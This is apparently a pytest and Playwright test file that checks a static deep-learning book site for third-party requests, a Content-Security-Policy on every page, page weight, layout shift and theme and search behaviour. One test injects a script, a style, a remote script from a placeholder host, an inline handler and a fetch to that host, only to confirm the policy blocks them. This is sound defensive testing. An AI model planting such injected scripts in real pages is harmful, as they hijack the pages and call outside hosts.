"""The whole site in a browser: nobody else is asked, the policy holds, and pages are light."""

from collections.abc import Iterator
from pathlib import Path

import browser
import pytest
import remote_addresses
import visits
from playwright.sync_api import Browser, Page
from site_checks import parse
from unrolled_book.finishing import policy
from visits import Visit

LIMIT = 600_000  # bytes of the first load of a page, with its figures, before a model is fetched
MODELS = ".safetensors"
STILL = 0.01  # shift of the layout; from 0.1 on readers are said to notice
MODULE = "module"


@pytest.fixture(scope=MODULE)
def seen(site: Path, address: str, chromium: Browser) -> dict[str, Visit]:
    """One visit to each page."""
    return {page: visits.visit(chromium, address, page, site) for page in browser.pages(site)}


@pytest.fixture
def visited(chromium: Browser, address: str) -> Iterator[tuple[Page, Visit]]:
    """A page to use, and what goes wrong on it."""
    visit = Visit()
    with visits.watched(chromium, address, visit) as page:
        yield page, visit


def test_every_kind_of_page_is_visited(seen: dict[str, Visit]) -> None:
    assert {"search.html", "genindex.html", "book/index.html", "book/theory/rnn.html"} <= set(seen)


def test_no_page_asks_a_third_party(seen: dict[str, Visit]) -> None:
    assert {page: visit.foreign for page, visit in seen.items() if visit.foreign} == {}


def test_no_page_breaks_its_policy_or_throws(seen: dict[str, Visit]) -> None:
    faults = {page: visit.refused + visit.errors for page, visit in seen.items()}
    assert {page: fault for page, fault in faults.items() if fault} == {}


def test_every_page_is_light(seen: dict[str, Visit]) -> None:
    weights = {
        page: sum(size for url, size in visit.weights.items() if not url.endswith(MODELS))
        for page, visit in seen.items()
    }
    for page, visit in seen.items():
        models = sum(visit.weights.values()) - weights[page]
        print(f"{page}: {weights[page] // 1000} kB, and models of {models // 1000} kB")
    assert min(weights.values()) > 50_000  # the style sheets alone
    assert {page: weight for page, weight in weights.items() if weight > LIMIT} == {}


def test_no_code_scrolls_sideways_on_a_laptop(seen: dict[str, Visit]) -> None:
    assert {page: visit.wide for page, visit in seen.items() if visit.wide} == {}


def test_figures_stand_in_the_middle_of_their_column(seen: dict[str, Visit]) -> None:
    assert {page: visit.aside for page, visit in seen.items() if visit.aside} == {}


def test_no_page_moves_while_it_loads(seen: dict[str, Visit]) -> None:
    moved = {page: round(visit.moved, 4) for page, visit in seen.items()}
    print(moved)
    assert {page: shift for page, shift in moved.items() if shift > STILL} == {}


def test_no_file_of_the_site_holds_an_address_that_would_be_fetched(site: Path) -> None:
    assert remote_addresses.of_site(site) == {}


def test_every_page_has_a_policy_and_no_inline_handler(site: Path) -> None:
    for name in [*browser.pages(site), "index.html"]:
        html = (site / name).read_text(encoding="utf-8")
        assert html.count(f'content="{policy.policy(html)}"') == 1, name
        assert "Content-Security-Policy" not in html[html.find("<script") :], name
        assert remote_addresses.handlers(parse(site / name)) == [], name


BAD = """<!DOCTYPE html><html><head><meta charset="utf-8" />{head}</head><body><h1>T</h1>
<script>
const move = () => document.body.prepend(document.createElement("hr"));
requestAnimationFrame(() => requestAnimationFrame(move)); // what has not been painted cannot move
</script>
<div class="unrolled-figure"><img src="data:," width="20" aria-label="on the left" /></div>
<div class="highlight"><pre style="overflow: auto; width: 20px">a long line of code</pre></div>
<script>oops()</script><p>T</p><img src="http://foreign.invalid/a.png" alt=""></body></html>"""


def test_what_goes_wrong_on_a_page_is_seen(chromium: Browser, tmp_path: Path) -> None:
    (tmp_path / "free.html").write_text(BAD.format(head=""), encoding="utf-8")
    strict = policy.protect(BAD.format(head=""), "strict").replace("oops", "other")
    (tmp_path / "strict.html").write_text(strict, encoding="utf-8")
    with browser.served(tmp_path) as address:
        free, strict = (
            visits.visit(chromium, address, page, tmp_path) for page in ("free.html", "strict.html")
        )
    assert free.foreign == ["http://foreign.invalid/a.png"]
    assert "oops" in free.errors[0]
    assert free.moved > 0
    assert [line.split(": ")[1] for line in free.wide] == ["a long line of code"]
    assert [line.split(": ")[1] for line in free.aside] == ["on the left"]
    assert not free.refused
    assert strict.errors == []
    assert [fault.split(":")[0] for fault in strict.refused] == ["script-src-elem", "img-src"]
    (path,) = free.weights
    assert path.endswith("/free.html")


def test_the_theme_works_under_the_policy(visited: tuple[Page, Visit], address: str) -> None:
    page, visit = visited
    page.goto(address + "book/theory/cells.html", wait_until="load")
    mode = "document.documentElement.dataset.mode"
    modes = []
    for _ in range(3):
        page.click(".theme-switch-button")
        modes.append(page.evaluate(mode))
    assert sorted(modes) == ["auto", "dark", "light"]

    page.click(".dropdown-download-buttons > button")
    assert page.is_visible(".dropdown-download-buttons .dropdown-menu")
    page.evaluate("window.print = () => { window.printed = true; }")
    page.click('[data-action="print"]')
    assert page.evaluate("window.printed")
    page.click('[data-action="full-screen"]')
    page.wait_for_function("document.fullscreenElement !== null")
    page.click('[data-action="full-screen"]')
    page.wait_for_function("document.fullscreenElement === null")

    page.click("details.sd-dropdown:has(.sd-tab-set) > summary")
    page.click("details.sd-dropdown[open] .sd-tab-set >> text=Keras")
    page.hover("details.sd-dropdown[open] .sd-tab-content:visible div.highlight")
    page.click("details.sd-dropdown[open] .sd-tab-content:visible button.copybtn")
    page.wait_for_selector("button.copybtn.success")
    assert "class " in page.evaluate("navigator.clipboard.readText()")
    assert (visits.refused(page), visit.errors, visit.foreign) == ([], [], [])


def test_one_finds_a_page_by_the_dialog(visited: tuple[Page, Visit], address: str) -> None:
    page, visit = visited
    page.goto(address + "book/index.html", wait_until="load")
    page.keyboard.press("Control+k")
    page.fill("#pst-search-dialog input", "exploding gradient")
    page.keyboard.press("Enter")
    page.wait_for_selector("#search-results a[href*='theory/rnn']")
    page.wait_for_selector("#search-results .context")  # the page itself was read for it
    assert (visits.refused(page), visit.errors, visit.foreign) == ([], [], [])


INJECTED = """() => {
  const script = document.createElement("script");
  script.textContent = "window.stolen = true";
  const sheet = document.createElement("style");
  sheet.textContent = "h1 { display: none }";
  const remote = document.createElement("script");
  remote.src = "https://foreign.invalid/a.js";
  document.head.append(script, sheet, remote);
  const button = document.createElement("button");
  button.setAttribute("onclick", "window.stolen = true");
  document.body.append(button);
  button.click();
  return fetch("https://foreign.invalid/").catch(() => {});
}"""


def test_what_is_injected_does_not_run(visited: tuple[Page, Visit], address: str) -> None:
    page, visit = visited
    ends: list[str | None] = []
    page.on("requestfailed", lambda request: ends.append(request.failure))
    page.goto(address + "book/theory/rnn.html", wait_until="load")
    page.evaluate(INJECTED)
    page.evaluate(visits.SETTLED)
    assert page.evaluate("window.stolen") is None
    assert page.is_visible("article h1")
    assert [*set(ends)] == ["csp"]  # none was sent
    assert len(visit.foreign) == len(ends)
    assert {fault.split(":")[0] for fault in visits.refused(page)} == {
        "script-src-elem",
        "style-src-elem",
        "script-src-attr",
        "connect-src",
    }


def test_the_site_works_from_files(visited: tuple[Page, Visit], site: Path) -> None:
    """As README says: open `_build/html/index.html`."""
    page, visit = visited
    page.goto((site / "index.html").as_uri())
    page.wait_for_selector("article h1")
    page.click("nav.bd-links a:has-text('What recurrent networks are')")
    page.wait_for_url("**/theory/rnn.html")
    before = page.evaluate("document.documentElement.dataset.mode")
    page.click(".theme-switch-button")
    assert page.evaluate("document.documentElement.dataset.mode") != before
    fonts = "[...document.fonts].filter((font) => font.family.includes('Awesome')"
    assert page.evaluate(f"{fonts} && font.status === 'loaded').length") > 0
    assert visits.refused(page) == []
    page.goto((site / "search.html").as_uri() + "?q=attention")
    page.wait_for_selector("#search-results a[href*='hybrid']")
    assert visits.refused(page) == visit.errors == []
    assert [url for url in visit.foreign if not url.startswith("file:")] == []
